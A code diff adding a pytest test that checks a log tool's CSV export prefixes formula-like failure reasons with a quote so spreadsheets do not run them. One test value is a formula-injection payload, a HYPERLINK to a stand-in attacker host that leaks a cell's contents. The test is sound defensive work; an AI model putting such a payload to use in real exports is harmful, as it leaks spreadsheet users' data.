@@ -72,3 +72,19 @@ def test_json_output_while_the_agent_writes(tmp_path: Path,
 def test_a_state_dir_without_a_database_is_an_error(tmp_path: Path) -> None:
     assert log_main(parse("--state-dir", str(tmp_path / "nothing"))) == 1
     assert not (tmp_path / "nothing").exists()  # reading never creates anything
+
+
+def test_csv_reasons_never_reach_a_spreadsheet_as_formulas(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    store = Store(tmp_path / "agent.sqlite3")
+    reasons = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1)", "@SUM(1)",
+               "-1+1", "\t=1", "decoder crashed"]
+    for n, reason in enumerate(reasons):
+        event = Event(event_id=f"evt-{n:05d}", playback_id=700 + n, type=EventType.FAILED,
+                      at=AT, clock_offset_ms=-12, reason=reason)
+        store.add_event(event, encode(event))
+    store.close()
+    assert log_main(parse("--state-dir", str(tmp_path))) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert [r["reason"] for r in rows] == [f"'{r}" for r in reasons[:-1]] + ["decoder crashed"]
+    assert {r["clock_offset_ms"] for r in rows} == {"-12"}  # a number, not text: unchanged
